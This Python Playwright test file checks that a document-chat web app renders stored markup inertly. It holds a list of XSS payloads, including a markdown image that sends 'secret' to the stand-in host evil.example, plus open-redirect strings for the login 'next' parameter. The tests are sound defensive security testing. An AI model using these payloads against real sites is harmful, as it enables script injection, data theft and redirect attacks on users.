"""Markup that somebody stored, in a real browser: nothing of it runs, and nothing is fetched from elsewhere.

Any dialog, script error or request to another host fails a test, see `tests.browsing.visits`.
"""

import re

import pytest
from playwright.sync_api import expect

from tests.browsing import PATIENCE, ask, visits
from tests.serving import PASSWORD, Site, accounts, client, copied
from tests.stub_model import serving

FAR = "http://evil.example"
MARKUP = (
    "<script>alert(1)</script>",
    f"<img src={FAR}/a.png onerror=alert(2)>",
    f"![pixel]({FAR}/b.png?q=secret)",
    f"<svg onload=alert(3)><use href={FAR}/c.svg#x></svg>",
    "[click](javascript:alert(4))",
    f"<iframe srcdoc='<script>alert(5)</script>' src={FAR}/d></iframe>",
    f"<style>@import url({FAR}/e.css); body {{ background: url({FAR}/f.png) }}</style>",
    f"<link rel=stylesheet href={FAR}/g.css><base href={FAR}/>",
    f"<form action={FAR}/h><button autofocus onfocus=alert(6)>x</button></form>",
    '" onmouseover="alert(7)" x="',
    f"<video poster={FAR}/i.png><audio src={FAR}/j autoplay>",
    "{{constructor.constructor('alert(8)')()}} ${alert(9)}",
)
QUESTION = f"Who keeps the lamp of Skerrow? {' '.join(MARKUP)}"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with serving() as stub:
        flags = ("--llm-base-url", stub.url, "--llm-model", "stub")
        made = Site(copied(tmp_path_factory.mktemp("attacks")), *flags)
        with accounts(made.folder) as people:
            people.add("ada", "admin", PASSWORD)
            made.key = people.add_key("ada")
        made.stub = stub
        made.start()
        with client(made.url, made.key) as http:
            for number, markup in enumerate(MARKUP):
                text = (
                    f"# Lamps {markup}\n\nThe lamp of Skerrow, an invented place, is kept {markup} by keeper {number}."
                )
                name = f"{number} {markup.replace('/', '∕')}.md"
                (added,) = http.post("/api/v1/documents", files={"file": (name, text.encode())}).json()
                assert added["outcome"] == "added", added
        yield made
        made.stop()


@pytest.fixture
def visit(chromium, site):
    with visits(chromium, site) as open_page:
        yield open_page


def enter(page):
    page.get_by_label("Name").fill("ada")
    page.get_by_label("Password").fill(PASSWORD)
    page.keyboard.press("Enter")


@pytest.mark.parametrize("reply", ["NOT IN THE EVIDENCE", f"The lamp is kept {' '.join(MARKUP)} [1]. {MARKUP[1]} [2]."])
def test_nothing_that_is_stored_runs_or_fetches(visit, site, tmp_path, reply):
    site.stub.reply = reply
    page = visit("/", wait=False)
    enter(page)
    ask(page, QUESTION)
    answer = page.locator("#chat .pin-answer").first
    answer.wait_for()
    expect(page.locator(".pin-question")).to_contain_text("<script>alert(1)</script>")
    page.locator("#chat button.cite, #chat button.read").first.click()
    expect(page.locator("#pin-panel .body")).to_contain_text("lamp of Skerrow")
    tags = "img[src^=http], iframe, form[action^=http], video, audio, a[href^='javascript:'], base, svg[onload]"
    assert page.locator(f":is(#chat, #pin-panel, #pin-nav) :is({tags})").count() == 0
    page.get_by_role("button", name="Documents", exact=True).click()
    expect(page.locator("#pin-library tbody")).to_contain_text("onerror=alert(2)")
    assert page.locator(f"#pin-library :is({tags})").count() == 0
    with client(site.url, site.key) as http:
        talk = http.get("/api/v1/conversations").json()["items"][0]["id"]
        export = http.get(f"/api/v1/conversations/{talk}/export?format=html")
    (tmp_path / "export.html").write_bytes(export.content)
    kept, asked = page.context.browser.new_page(), []
    kept.set_default_timeout(PATIENCE)
    kept.on("request", lambda request: asked.append(request.url))
    kept.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    kept.goto((tmp_path / "export.html").as_uri())
    expect(kept.locator("body")).to_contain_text("<script>alert(1)</script>")
    kept.close()
    assert [url for url in asked if not url.startswith("file:")] == []


@pytest.mark.parametrize(
    "wanted",
    [f"{FAR}/x", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example", "javascript:alert(1)",
     "/%09/evil.example", "\t//evil.example", "data:text/html,<script>alert(1)</script>", "@evil.example"],
)  # fmt: skip
def test_signing_in_leads_nowhere_else(visit, site, wanted):
    from urllib.parse import quote

    page = visit(f"/login?next={quote(wanted, safe='')}", wait=False)
    enter(page)
    page.wait_for_url(re.compile(rf"^{re.escape(site.url)}/(?!login)"))
